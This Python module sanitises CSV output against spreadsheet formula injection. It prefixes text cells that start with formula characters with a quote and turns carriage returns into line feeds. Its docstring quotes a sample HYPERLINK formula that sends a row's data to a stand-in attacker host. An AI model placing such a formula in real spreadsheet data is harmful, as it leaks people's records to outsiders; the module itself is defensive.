"""CSV cells a spreadsheet will not run: the one rule every CSV GreenLoop writes follows.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-``
or ``@`` as a formula (tab, carriage return and line feed also start one once they are
trimmed), so a customer named ``=HYPERLINK("http://evil.example/?"&B2,"Bella")`` would
send the row to whoever set the name. OWASP's CSV-injection rule: such a text cell gets
a leading ``'``, which the spreadsheet shows as text and hides. Numbers are written from
their type (``Decimal``, ``int``, ``float``), never from text, so ``-12.50`` stays a
negative number; an E.164 phone (``+16152384410``) is text and is written ``'+1615…``,
which also keeps its ``+`` where a spreadsheet would have made it a number.

A carriage return inside a text becomes a line feed: Python's csv writer quotes a cell
holding a character of its line terminator, and the master file ends lines with ``\n``
alone, so a bare ``\r`` would stay unquoted and a spreadsheet would start a new row
there, whose first cell could be a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal

__all__ = ["FORMULA_LEADS", "csv_cell", "csv_row"]

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value: object) -> str:
    """``value`` as a CSV cell: None is empty, numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return str(value)
    text = str(value)
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def csv_row(values: Iterable[object]) -> list[str]:
    return [csv_cell(value) for value in values]
